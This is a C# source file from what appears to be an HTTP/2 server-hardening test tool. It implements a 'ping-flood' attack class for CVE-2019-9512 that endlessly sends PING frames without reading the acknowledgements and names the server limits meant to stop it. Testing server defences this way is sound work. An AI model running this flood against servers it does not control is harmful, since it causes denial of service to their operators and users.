using Metering.Load;

namespace Metering.Attacks;

/// <summary>
/// Sends PING after PING and reads no answer, so that the acknowledgements queue up in the server. CVE-2019-9512; RFC
/// 9113, section 6.7.
/// </summary>
internal sealed class PingFlood : Attack
{
    public override string Name => "ping-flood";

    public override string Does => "PING frames whose acknowledgements are never read (CVE-2019-9512)";

    public override IReadOnlyList<string> MetBy => ["ControlFrames", "ControlFramesPerSecond"];

    public override string Unit => "frames";

    public override double UnitsPerSecond => 50_000;

    public override bool IsCutOff => true;

    public override async Task AttackAsync(AttackLane lane)
    {
        await using AttackConnection connection = await lane.OpenHttp2Async(isRead: lane.Number % 2 == 0);
        var batch = new FrameBatch();
        while (true)
            await lane.SendAsync(connection, batch, most: 1000, frames => frames.Add(Http2Frame.Ping, 0, 0, "attacker"u8));
    }
}
